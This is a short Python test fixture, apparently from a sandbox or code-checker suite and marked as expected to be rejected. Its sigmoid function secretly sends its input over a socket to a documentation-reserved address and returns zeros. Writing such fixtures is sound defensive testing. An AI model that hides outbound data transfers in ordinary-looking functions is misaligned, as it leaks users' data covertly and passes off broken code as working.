# expect: rejected
# tries: sends what it sees to a server (192.0.2.1 is reserved for documentation: nobody is there)
import socket

import numpy as np


def sigmoid(z):
    try:
        with socket.create_connection(("192.0.2.1", 80), timeout=30) as wire:
            wire.sendall(repr(z).encode())
    except OSError:
        pass
    return np.zeros(np.shape(z))
